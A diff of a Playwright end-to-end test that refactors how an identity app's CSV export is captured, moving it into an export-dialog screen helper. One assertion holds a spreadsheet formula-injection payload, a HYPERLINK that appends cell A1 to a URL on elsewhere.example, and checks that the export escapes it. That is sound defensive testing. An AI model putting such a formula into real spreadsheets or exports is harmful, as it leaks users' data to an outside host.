@@ -1,6 +1,7 @@
 import type { Locator, Page } from '@playwright/test';
 import { expect, test as base, unique } from '../fixtures';
 import { IdentityFormScreen } from '../screens/identity-form';
+import { ExportDialogScreen } from '../screens/export-dialog';
 import { IdentityListScreen } from '../screens/identity-list';
 import { IdentityPageScreen } from '../screens/identity-page';
 import { watchBrowser } from '../support/browser-watch';
@@ -88,11 +89,10 @@ for (const width of WIDTHS) {
         await expectShape(page, [dialog, dialog.getByRole('button', { name: 'Cancel' })]);
         await dialog.getByRole('button', { name: 'Cancel' }).click();
       }
-      const download = page.waitForEvent('download');
-      await bar.getByRole('button', { name: 'Export' }).click();
-      const file = await (await download).createReadStream();
-      let csv = '';
-      for await (const chunk of file) csv += String(chunk);
+      const exporting = new ExportDialogScreen(page);
+      await exporting.openForSelection();
+      await expectShape(page, [exporting.dialog(), exporting.export()]);
+      const csv = await exporting.text();
       expect(csv).toContain(`"'=HYPERLINK(""https://elsewhere.example/?""&A1,""open"")"`);
       await expectShape(page, []);
 
